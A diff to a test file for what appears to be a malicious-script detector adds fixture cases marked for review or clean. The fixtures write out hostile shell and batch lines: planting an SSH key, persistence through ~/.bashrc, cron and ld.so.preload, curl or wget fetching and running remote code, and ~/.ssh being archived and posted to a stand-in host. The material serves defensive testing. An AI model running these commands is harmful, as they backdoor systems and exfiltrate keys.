@@ -138,6 +138,25 @@ CASES = {
     "script_continued": text("#!/bin/sh\ncurl -s \\\n  http://192.0.2.1/a \\\n  | bash\n", "run.sh", Verdict.REVIEW),
     "script_echoed_into_shell": text(f"#!/bin/sh\necho '{PIPE}' | sh\n", "run.sh", Verdict.REVIEW),
     "script_long_line": text("#!/bin/sh\n" + "true;" * 3000 + PIPE + ";true" * 3000, "run.sh", Verdict.REVIEW),
+    "script_lets_a_key_in": text(
+        "#!/bin/sh\nmkdir -p ~/.ssh\necho 'ssh-rsa AAAAB3NzaC1yc2E x@y' >> ~/.ssh/authorized_keys\n",
+        "run.sh",
+        Verdict.REVIEW,
+    ),
+    "script_plants_in_profile": text(f'#!/bin/sh\necho "{PIPE} &" >> ~/.bashrc\n', "run.sh", Verdict.REVIEW),
+    "script_plants_in_clock": text(
+        f"#!/bin/sh\necho '* * * * * root {PIPE}' | sudo tee -a /etc/cron.d/x\n", "run.sh", Verdict.REVIEW
+    ),
+    "script_plants_by_crontab": text(f'#!/bin/sh\necho "* * * * * {PIPE}" | crontab -\n', "run.sh", Verdict.REVIEW),
+    "script_preloads": text("#!/bin/sh\necho /tmp/x.so > /etc/ld.so.preload\n", "run.sh", Verdict.REVIEW),
+    "benign_profiles": text(
+        '#!/bin/sh\necho \'eval "$(pyenv init -)"\' >> ~/.bashrc\necho "$PUBLIC_KEY" >> ~/.ssh/authorized_keys\n'
+        f"echo 'see {PIPE}' > notes.txt\necho '0 3 * * * root /usr/bin/backup' > /etc/cron.d/backup\n",
+        "start.sh",
+        Verdict.CLEAN,
+    ),
+    "batch_format": text('wmic os get /format:"http://192.0.2.1/x.xsl"\r\n', "a.bat", Verdict.REVIEW),
+    "benign_msi": text("msiexec.exe /i https://awscli.example.com/AWSCLIV2.msi\r\n", "a.bat", Verdict.CLEAN),
     "script_decoded": text("#!/bin/sh\necho aWQ= | base64 -d | bash\n", "run.sh", Verdict.REVIEW),
     "script_keys": text("tar c ~/.ssh | base64 | curl -d @- http://192.0.2.1/\n", "run.sh", Verdict.REVIEW),
     "script_chmod": text("wget http://192.0.2.1/x -O x && chmod +x x && ./x\n", "run.sh", Verdict.REVIEW),
